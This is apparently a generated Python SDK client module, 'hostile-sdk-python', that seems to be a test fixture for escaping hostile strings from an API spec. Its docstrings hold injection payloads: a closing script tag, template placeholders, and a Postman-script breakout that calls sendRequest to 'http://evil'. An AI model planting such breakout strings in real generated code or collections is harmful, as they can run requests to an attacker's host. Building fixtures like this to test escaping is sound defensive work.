"""Clients of a "b" {{base_url}} </script> `${x}`."""

from typing import Unpack

from .core.transport import (
    AsyncSettings,
    AsyncTransport,
    Auth,
    Credential,
    Service,
    Settings,
    Transport,
)
from .resources.lists import AsyncLists, Lists

_SERVICE = Service(
    agent="hostile-sdk-python/0.1.0",
    base_url_variable="HOSTILE_BASE_URL",
    auth=Auth("Authorization", "Bearer ", "HOSTILE_TOKEN"),
)


class Client(Transport):
    """{{$guid}} "); pm.sendRequest("http://evil"); //"""

    def __init__(self, *, token: Credential | None = None, **settings: Unpack[Settings]) -> None:
        super().__init__(_SERVICE, token, settings)
        self.lists = Lists(self)


class AsyncClient(AsyncTransport):
    """{{$guid}} "); pm.sendRequest("http://evil"); //

    For asyncio and trio.
    """

    def __init__(
        self, *, token: Credential | None = None, **settings: Unpack[AsyncSettings]
    ) -> None:
        super().__init__(_SERVICE, token, settings)
        self.lists = AsyncLists(self)
